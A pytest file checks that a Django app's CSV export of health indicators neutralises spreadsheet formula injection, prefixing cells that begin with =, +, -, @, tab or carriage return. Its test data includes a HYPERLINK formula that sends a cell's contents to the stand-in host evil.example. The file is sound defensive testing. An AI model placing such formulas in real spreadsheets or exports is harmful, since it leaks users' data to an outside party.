"""The explorer's CSV download read back: no cell a spreadsheet would run as a formula."""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from yhdyspinta.indicators.exports import safe_cell
from yhdyspinta.indicators.models import Area, Indicator
from yhdyspinta.indicators.services.catalogue import link_areas_to_organizations

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)"]


@pytest.fixture
def data(world, catalogue):
    call_command(
        "import_sotkanet", "--file", str(catalogue / "north_karelia.csv"), "--indicator", "683"
    )
    link_areas_to_organizations()
    return world


def _rows(client, language):
    indicator = Indicator.objects.get(sotkanet_id=683)
    area = Area.objects.get(sotkanet_id=74)
    url = reverse("indicators:explorer_csv") + f"?indicators={indicator.pk}&areas={area.pk}"
    response = client.get(url, HTTP_ACCEPT_LANGUAGE=language)
    assert response.status_code == 200
    delimiter = ";" if language == "fi" else ","
    return list(csv.reader(io.StringIO(response.content.decode()), delimiter=delimiter))


@pytest.mark.parametrize(("language", "title"), [("fi", HOSTILE[0]), ("en", HOSTILE[2])])
def test_a_title_that_looks_like_a_formula_is_written_as_text_and_numbers_as_numbers(
    data, client_for, title, language
):
    Indicator.objects.filter(sotkanet_id=683).update(title_fi=title, title_en=title)
    Indicator.objects.get(sotkanet_id=683).observations.update(value=-1.5)
    Area.objects.filter(sotkanet_id=74).update(name_fi="\tTab", name_en="\tTab", name_sv="\tTab")
    header, *rows = _rows(client_for(data.coordinator), language)
    assert rows
    for row in rows:
        assert row[1] == "'" + title
        assert row[2] == "'\tTab"
        assert row[4] == ("-1,5" if language == "fi" else "-1.5")
        for cell in (row[0], row[1], row[2], row[8]):  # the text columns
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+358 40 123", "'+358 40 123"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Joensuu", "Joensuu"),
        ("", ""),
        (None, ""),
        (-1.5, "-1.5"),
        (2023, "2023"),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected
